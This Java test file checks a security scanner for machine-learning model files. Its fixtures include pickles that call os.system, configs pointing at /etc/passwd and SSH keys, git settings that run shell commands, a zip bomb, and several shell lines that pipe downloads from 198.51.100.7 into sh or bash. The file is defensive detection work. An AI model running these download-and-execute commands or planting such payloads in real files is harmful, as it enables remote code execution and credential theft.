package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.join;
import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sallyport.artifacts.Digests;
import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.ModelWalk;
import io.sallyport.artifacts.PickleBytes;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.ScanReport;
import io.sallyport.artifacts.ScanVerdict;
import io.sallyport.artifacts.internal.rules.DataFiles;
import io.sallyport.artifacts.internal.sign.Bundle;
import io.sallyport.artifacts.signing.SigningException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Templates that no engine takes, old and textual formats, layouts, and what scripts keep. */
final class FourthRoundTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());

  @TempDir private Path folder = Path.of("");

  private static List<String> rules(String text, String file) {
    return SCANNER.scan(utf8(text), file).findings().stream().map(ScanFinding::rule).toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{% if x %}",
        "{% for %}{% endfor %}",
        "{% unknown %}",
        "{% endif %}",
        "{{ x | }}",
        "{% if a %}{% endfor %}",
        "{{ }}",
        "{# open",
        "{% raw %} x",
        "{{ a b }}",
        "{% set = 3 %}",
        "{% if %}x{% endif %}",
        "{{ x..y }}",
        "{% elif x %}",
        "{% else %}",
        "{% block a %}",
        "{{ a if }}",
        "{{ [1, }}",
        "{{ x is }}",
        "{{ in }}",
        "{% set a b %}",
        "{{ x[1 2] }}",
        "{{ 'a' 1 }}",
        "{% macro %}{% endmacro %}",
        "{% for x y in z %}{% endfor %}"
      })
  void templateThatNoEngineTakes_isSuspicious(String template) {
    assertThat(SCANNER.scan(utf8(template), "t.jinja").verdict()).isEqualTo(ScanVerdict.SUSPICIOUS);
    assertThat(rules(template, "t.jinja")).containsExactly("jinja/broken");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{%- for m in messages -%}{{ '<|' + m['role'] + '|>' }}{%- endfor -%}",
        "{% if not x is defined and y is not none %}{{ x | default('a', true) | trim }}{% endif %}",
        "{% set ns = namespace(a=false, b=[1, 2]) %}{% set ns.a = true %}{{ ns.b[1:] }}",
        "{% for k, v in d.items() if v recursive %}{{ loop.index0 }}{% else %}-{% endfor %}",
        "{% macro f(a, b=none) %}{{ a ~ b }}{% endmacro %}{{ f(1, b={'x': 1}) }}",
        "{{ a if b else c if d }}{{ (1, 2) }}{{ -x ** 2 // 3 % 4 }}{{ x not in [] }}",
        "{% generation %}{{ m.content | map(attribute='text') | join(', ') }}{% endgeneration %}",
        "{% set x %}a{% endset %}{% raw %}{{ not a block }}{% endraw %}{{ x[::-1] }}",
        "{{ x is divisibleby 3 }}{{ x is string and (y is mapping or z) }}{{ 1.5 + 2e3 }}",
        "{% set (a, b) = (1, 2) %}{{ a == b != 3 >= 1 }}{{ 'a' 'b' }}{{ m[-1].content[0]['x'] }}",
        "{%+ if x -%}{% elif y %}{% else %}{% endif +%}{% call f(1) %}x{% endcall %}{% break %}",
        "{{ raise_exception('a') if x.y(1)(2) is not sameas true }}{{ {'a': [1, {'b': 2}],} }}"
      })
  void templatesAsModelsHaveThem_areNotBroken(String template) {
    assertThat(rules(template, "t.jinja")).doesNotContain("jinja/broken");
  }

  @ParameterizedTest
  @ValueSource(ints = {18, 19, 20, 21})
  void compressedFileOfOldJoblib_isRead(int width) throws IOException {
    byte[] pickle = PickleBytes.calling("os", "system", "id");
    ByteArrayOutputStream deflated = new ByteArrayOutputStream();
    try (DeflaterOutputStream stream = new DeflaterOutputStream(deflated)) {
      stream.write(pickle);
    }
    String length = "0x" + Integer.toHexString(pickle.length);
    byte[] file =
        join(utf8("ZF" + length + " ".repeat(width - length.length())), deflated.toByteArray());

    ScanReport report = SCANNER.scan(file, "m.joblib");

    assertThat(report.verdict()).isEqualTo(ScanVerdict.MALICIOUS);
    assertThat(report.format()).isEqualTo("joblib");
    assertThat(SCANNER.scan(utf8("ZF0x12               nothing"), "m.joblib").verdict())
        .isEqualTo(ScanVerdict.SUSPICIOUS);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "string_val: \"/etc/cron.d/x\"; tensorflow/writes-outside",
        "string_val: '../' \"x\"; tensorflow/writes-outside",
        "string_val: \"\\x2fetc\\057x\"; tensorflow/writes-outside",
        "string_val: [\"/root/.bashrc\"]; tensorflow/writes-outside",
        "string_val: \"inside.txt\"; tensorflow/files"
      })
  void graphAsText_isJudgedAsTheBinaryOne(String constant, String rule) {
    String nodes =
        "node { name: \"c\" op: \"Const\" # a file\n attr < key: \"value\" value { tensor {"
            + " dtype: DT_STRING "
            + constant
            + " } } > }\nnode { name: 'w'; op: \"WriteFile\", input: [\"c\", \"c\"] }";
    for (String text :
        List.of(
            "saved_model_schema_version: 1 meta_graphs { graph_def { " + nodes + " } }",
            "meta_info_def { } graph_def { " + nodes + " }",
            nodes,
            "library { function { signature { name: \"f\" } "
                + nodes.replace("node {", "node_def {")
                + " } }")) {
      assertThat(rules(text, "m.pbtxt")).as(text).contains(rule);
    }
    assertThat(rules("node { name: \"x\" op: \"Relu\"", "m.pbtxt")).contains("format/malformed");
  }

  @Test
  void filesThatSettingsName_lieWithinTheModel() {
    for (String key : DataFiles.strings(DataFiles.tree("rules/settings.json").path("file-keys"))) {
      for (String path :
          List.of("/etc/passwd", "../../x", "~/.ssh/id_rsa", "file:///x.json", "//host/a.json")) {
        assertThat(rules("{\"" + key + "\":\"" + path + "\"}", "tokenizer_config.json"))
            .as(key + " " + path)
            .containsExactly("config/path");
      }
      for (String path :
          List.of(
              "tokenizer.json",
              "/home/me/.cache/huggingface/hub/models--a--b/snapshots/c/tokenizer.json",
              "/root/.cache/huggingface/transformers/" + "a".repeat(64) + "." + "b".repeat(64),
              "/content/model/vocab.txt",
              "https://hub.example/vocab.txt")) {
        assertThat(rules("{\"" + key + "\":\"" + path + "\"}", "tokenizer_config.json"))
            .as(key + " " + path)
            .isEmpty();
      }
    }
  }

  @Test
  void settingsOfGitThatRunCommands_areSuspicious() {
    for (String key : DataFiles.lines("rules/git-keys.txt")) {
      int dot = key.indexOf('.');
      String section = dot < 0 ? key : key.substring(0, dot);
      String inner = key.contains(".*.") ? " \"a\"" : "";
      String name = dot < 0 ? "x" : key.substring(key.lastIndexOf('.') + 1);
      assertThat(rules("[" + section + inner + "]\n\t" + name + " = !sh evil\n", "config"))
          .as(key)
          .containsExactly("config/git-command");
    }
    assertThat(rules("[core]\n\tbare = false\n[user]\n\tname = a\n", ".gitconfig")).isEmpty();
  }

  @Test
  void blobThatALayoutNamesAndHasNot_isAnError() throws Exception {
    Path layout = Files.createDirectories(folder.resolve("oci/blobs/sha256")).resolve("../..");
    byte[] config = utf8("{}");
    String manifest =
        "{\"config\":{\"mediaType\":\"a+json\",\"digest\":\"sha256:%s\"},\"layers\":[{\"digest\":\"sha256:%s\"}]}"
            .formatted(Digests.sha256Hex(config), "ab".repeat(32));
    for (byte[] blob : List.of(config, utf8(manifest))) {
      Files.write(layout.resolve("blobs/sha256").resolve(Digests.sha256Hex(blob)), blob);
    }
    Files.writeString(layout.resolve("oci-layout"), "{\"imageLayoutVersion\":\"1.0.0\"}");
    Files.writeString(
        layout.resolve("index.json"),
        "{\"manifests\":[{\"mediaType\":\"application/vnd.oci.image.manifest.v1+json\",\"digest\":\"sha256:%s\"}]}"
            .formatted(Digests.sha256Hex(utf8(manifest))));

    List<ScanReport> errors =
        scan(folder.resolve("oci")).stream()
            .filter(report -> report.verdict() == ScanVerdict.ERROR)
            .toList();

    assertThat(errors).hasSize(1);
    assertThat(errors.getFirst().path()).endsWith("blobs/sha256/" + "ab".repeat(32));
    Files.write(layout.resolve("blobs/sha256").resolve("ab".repeat(32)), config);
    assertThat(scan(folder.resolve("oci")))
        .noneMatch(report -> report.verdict() == ScanVerdict.ERROR);
  }

  private static List<ScanReport> scan(Path path) throws IOException, InterruptedException {
    List<ScanReport> reports = new ArrayList<>();
    new ModelWalk(ScanLimits.standard(), null, 2).scan(List.of(path.toString()), reports::add);
    return reports;
  }

  @Test
  void bundleWithSomethingBehind_isRefused() {
    for (String behind : List.of("{}", "x", "1", "]")) {
      byte[] bundle = utf8("{\"mediaType\":\"" + Bundle.MEDIA_TYPE + "\"}\n" + behind);
      assertThatThrownBy(() -> Bundle.read(bundle))
          .as(behind)
          .isInstanceOf(SigningException.class)
          .hasMessageContaining("no JSON");
    }
  }

  @Test
  void membersThatShareTheirBytes_areABombAndStillRead() {
    byte[] pickle = PickleBytes.calling("os", "system", "id");
    byte[] archive = new RawZip().add(RawZip.entry("a.pkl", pickle)).end();
    String text = new String(archive, StandardCharsets.ISO_8859_1);
    int directory = text.indexOf("PK\u0001\u0002");
    int end = text.indexOf("PK\u0005\u0006");
    String entry = text.substring(directory, end);
    byte[] twice =
        (text.substring(0, end) + entry + text.substring(end))
            .getBytes(StandardCharsets.ISO_8859_1);
    int behind = end + entry.length();
    twice[behind + 8] = 2;
    twice[behind + 10] = 2;
    twice[behind + 12] = (byte) (2 * entry.length());

    ScanReport report = SCANNER.scan(twice, "m.zip");

    assertThat(report.verdict()).isEqualTo(ScanVerdict.MALICIOUS);
    assertThat(report.findings()).extracting(ScanFinding::rule).contains("archive/bomb");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "U=http://198.51.100.7/m\ncurl -s $U | sh\n",
        "C=\"curl -fsSL http://198.51.100.7/x\"\n$C | bash\n",
        "c='wget -qO- http://198.51.100.7/x | sh'\neval \"$c\"\n",
        "T=$(mktemp)\nwget -qO \"$T\" http://198.51.100.7/m && chmod +x \"$T\" && \"$T\" &\n",
        "export H=198.51.100.7\nsh -c \"$(curl -s http://${H}/i.sh)\"\n",
        "local d=/tmp/x\ncurl -so $d http://198.51.100.7/m\nbash $d\n"
      })
  void downloadThroughAVariable_isMalicious(String script) {
    assertThat(rules(script, "run.sh")).contains("code/shell-command");
  }

  @Test
  void honestDownloadsThroughVariables_areClean() {
    assertThat(
            rules(
                "URL=https://hub.example/m.bin\nOUT=models/m.bin\ncurl -L -o \"$OUT\" \"$URL\"\n"
                    + "python train.py --model \"$OUT\"\n",
                "get.sh"))
        .isEmpty();
  }
}
